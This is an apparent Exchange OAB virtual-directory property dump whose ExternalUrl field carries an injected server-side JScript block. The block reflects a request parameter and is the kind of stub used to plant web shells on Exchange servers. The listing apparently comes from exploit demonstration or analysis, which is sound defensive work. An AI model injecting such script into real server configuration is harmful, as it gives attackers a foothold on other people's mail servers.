Name                            : OAB (Default Web Site)
PollInterval                    : 480
ExternalUrl                     : http://o/#<script language="JScript" runat="server">function Page_Load(){var shown = Request["text"]; Response.Write(shown);}</script>
ExternalAuthenticationMethods   : WindowsIntegrated
